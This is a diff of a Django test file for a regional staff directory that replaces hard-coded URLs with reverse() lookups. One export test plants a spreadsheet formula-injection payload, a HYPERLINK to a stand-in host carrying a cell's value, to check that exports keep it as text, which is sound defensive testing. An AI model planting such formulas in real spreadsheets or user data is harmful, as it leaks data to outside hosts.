@@ -6,13 +6,14 @@ import pytest
 from django.db import connection
 from django.test import Client
 from django.test.utils import CaptureQueriesContext
+from django.urls import reverse
 from openpyxl import load_workbook
 
-from conftest import Padang, make_employee, make_position
 from pamong.accounts.models import User
 from pamong.organization.models import Position, Unit
 from pamong.organization.services import units_scaffold
 from pamong.regions.services import regions_import
+from pamong.testing import Padang, make_employee, make_position
 
 pytestmark = pytest.mark.django_db
 
@@ -24,7 +25,7 @@ def test_unit_page_draws_the_chain_and_marks_vacant_positions(
         padang.kantor_lurah_bp, "Sekretaris Lurah", Position.Kind.SEKRETARIS, reports_to=padang.staf_bp_pos.reports_to
     )
     client.force_login(camat_padang_selatan)
-    html = client.get(f"/unit/{padang.kantor_lurah_bp.pk}/").content.decode()
+    html = client.get(reverse("organization:unit", args=[padang.kantor_lurah_bp.pk])).content.decode()
     assert "Lurah" in html and "Mulyadi" in html
     assert "Sekretaris Lurah" in html and "Kosong (lowong)" in html
     assert "melapor ke Camat, Kantor Camat Padang Selatan" in html
@@ -33,7 +34,7 @@ def test_unit_page_draws_the_chain_and_marks_vacant_positions(
 
 def directory_queries(client: Client) -> int:
     with CaptureQueriesContext(connection) as ctx:
-        response = client.get("/pegawai/")
+        response = client.get(reverse("organization:employees"))
     assert response.status_code == 200
     return len(ctx.captured_queries)
 
@@ -51,19 +52,19 @@ def test_directory_keeps_a_constant_number_of_queries(client: Client, padang: Pa
 
 def test_directory_filters_and_htmx_partial(client: Client, padang: Padang, pimpinan_padang: User) -> None:
     client.force_login(pimpinan_padang)
-    html = client.get("/pegawai/", {"kecamatan": "13.71.03"}).content.decode()
+    html = client.get(reverse("organization:employees"), {"kecamatan": "13.71.03"}).content.decode()
     assert "Hendri" in html and "Yusnimar" not in html
-    partial = client.get("/pegawai/", {"q": "yusni"}, HTTP_HX_REQUEST="true").content.decode()
+    partial = client.get(reverse("organization:employees"), {"q": "yusni"}, HTTP_HX_REQUEST="true").content.decode()
     assert "Yusnimar" in partial and "Mulyadi" not in partial
     assert '<nav class="navbar' not in partial
     nip = padang.staf_bt.nip or ""
-    nip_search = client.get("/pegawai/", {"q": nip[:8]}).content.decode()
+    nip_search = client.get(reverse("organization:employees"), {"q": nip[:8]}).content.decode()
     assert "Hendri" in nip_search
 
 
 def test_xlsx_export_holds_only_what_the_user_sees(client: Client, padang: Padang, lurah_belakang_pondok: User) -> None:
     client.force_login(lurah_belakang_pondok)
-    response = client.get("/pegawai/unduh.xlsx")
+    response = client.get(reverse("organization:employees_xlsx"))
     assert response["Content-Type"].startswith("application/vnd.openxmlformats")
     sheet = load_workbook(io.BytesIO(response.content)).active
     rows = list(sheet.iter_rows(min_row=4, values_only=True))
@@ -95,7 +96,7 @@ def test_text_that_looks_like_a_formula_stays_text_in_exports(
 ) -> None:
     make_employee(padang.kantor_lurah_bt, '=HYPERLINK("http://contoh.invalid/?"&A5,"klik")')
     client.force_login(pimpinan_padang)
-    sheet = load_workbook(io.BytesIO(client.get("/pegawai/unduh.xlsx").content)).active
+    sheet = load_workbook(io.BytesIO(client.get(reverse("organization:employees_xlsx")).content)).active
     cells = [row[1] for row in sheet.iter_rows(min_row=4) if str(row[1].value).startswith("=")]
     assert len(cells) == 1
     assert cells[0].data_type == "s"
@@ -104,7 +105,6 @@ def test_text_that_looks_like_a_formula_stays_text_in_exports(
 def test_menus_and_region_pages_link_only_pages_the_user_may_open(
     padang: Padang, petugas_belakang_pondok: User, lurah_belakang_pondok: User
 ) -> None:
-    from django.urls import reverse
 
     staff, head = Client(), Client()
     staff.force_login(petugas_belakang_pondok)
@@ -118,8 +118,10 @@ def test_menus_and_region_pages_link_only_pages_the_user_may_open(
     assert reverse("skp:recap") in head.get(reverse("organization:hub")).content.decode()
     assert reverse("attendance:day") in head.get(reverse("attendance:mine")).content.decode()
     # The region browser links the office pages the lurah may open, and only names the others.
-    kecamatan = head.get(f"/wilayah/{padang.padang_selatan.code}/").content.decode()
-    assert f"/unit/{padang.kantor_camat_ps.pk}/" not in kecamatan and "Kantor Camat" in kecamatan
-    own = head.get(f"/wilayah/{padang.belakang_pondok.code}/").content.decode()
-    assert f"/unit/{padang.kantor_lurah_bp.pk}/" in own
-    assert head.get(f"/unit/{padang.kantor_lurah_bp.pk}/").status_code == 200
+    kecamatan = head.get(reverse("portal:browse", args=[padang.padang_selatan.code])).content.decode()
+    assert (
+        reverse("organization:unit", args=[padang.kantor_camat_ps.pk]) not in kecamatan and "Kantor Camat" in kecamatan
+    )
+    own = head.get(reverse("portal:browse", args=[padang.belakang_pondok.code])).content.decode()
+    assert reverse("organization:unit", args=[padang.kantor_lurah_bp.pk]) in own
+    assert head.get(reverse("organization:unit", args=[padang.kantor_lurah_bp.pk])).status_code == 200
